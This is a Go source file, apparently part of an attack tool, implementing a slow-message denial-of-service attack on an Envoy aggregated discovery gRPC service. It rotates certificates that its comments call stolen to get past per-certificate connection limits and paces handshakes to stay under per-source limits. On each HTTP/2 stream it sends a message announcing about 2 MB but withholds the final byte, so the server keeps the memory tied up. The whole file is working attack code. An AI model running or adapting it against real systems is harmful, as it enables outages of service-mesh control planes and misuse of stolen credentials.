package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

const unfinishedMessage = "unfinished-message"

// Limits of the discovery server: connections of a certificate, streams of a connection, the size of a request with a
// reserve for what the server counts with it, and handshakes of an address.
const (
	connectionsPerCertificate = 8
	streamsPerConnection      = 8
	announcedSize             = 2<<20 - 1<<10
	// handshakesPerSource is less than the limit, since the server counts a handshake for longer than the client.
	handshakesPerSource = 8
)

const discoveryPath = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"

// prepareUnfinished returns the attack with first messages of streams that lack their last bytes, on connections with
// stolen certificates in turn.
func prepareUnfinished(o options) (attempt, error) {
	certificates, err := readCertificates(o.certificates)
	if err != nil {
		return nil, err
	}
	var next atomic.Int64
	handshakes := make(chan struct{}, handshakesPerSource)
	return func(ctx context.Context, target string, t *tally) {
		handshakes <- struct{}{}
		conn, done := dial(ctx, target, t)
		defer done()
		if conn == nil {
			<-handshakes
			return
		}
		config := unverified.Clone()
		config.NextProtos = []string{http2.NextProtoTLS}
		config.Certificates = []tls.Certificate{certificates[int(next.Add(1))%len(certificates)]}
		secure := tls.Client(conn, config)
		err := secure.HandshakeContext(ctx)
		<-handshakes
		if err != nil {
			return
		}
		//nolint:staticcheck // the client of net/http dials itself: the handshakes could not be limited
		client, err := new(http2.Transport).NewClientConn(secure)
		if err != nil {
			return
		}
		var streams sync.WaitGroup
		for range streamsPerConnection {
			sent := make(chan struct{}) // one after the other: more bytes of a certificate are held
			streams.Go(func() { holdMessage(ctx, client, target, sent) })
			<-sent
		}
		streams.Wait()
		pause(ctx, time.Second) // the limit is the same for a while
	}, nil
}

// holdMessage opens a stream, and sends a message without its last byte. Then it closes sent. It returns when the
// server ends the stream.
//
//nolint:staticcheck // as above
func holdMessage(ctx context.Context, client *http2.ClientConn, target string, sent chan struct{}) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel() // ends the body
	body := &unfinishedBody{
		ctx: ctx, prefix: binary.BigEndian.AppendUint32([]byte{0}, announcedSize), left: announcedSize - 1,
		sent: sync.OnceFunc(func() { close(sent) }),
	}
	defer body.sent()
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+target+discoveryPath, body)
	if err != nil {
		panic(err) // the target is checked
	}
	r.Header.Set("Content-Type", "application/grpc")
	response, err := client.RoundTrip(r)
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, response.Body) // until the server ends the stream
	_ = response.Body.Close()
}

// unfinishedBody is a body that begins with a prefix and zeros, and does not end before the context.
type unfinishedBody struct {
	ctx    context.Context
	prefix []byte
	left   int
	sent   func()
}

// Read implements io.Reader.
func (b *unfinishedBody) Read(into []byte) (int, error) {
	switch {
	case len(b.prefix) > 0:
		n := copy(into, b.prefix)
		b.prefix = b.prefix[n:]
		return n, nil
	case b.left > 0:
		n := min(b.left, len(into))
		clear(into[:n])
		b.left -= n
		return n, nil
	}
	b.sent()
	<-b.ctx.Done()
	return 0, b.ctx.Err()
}
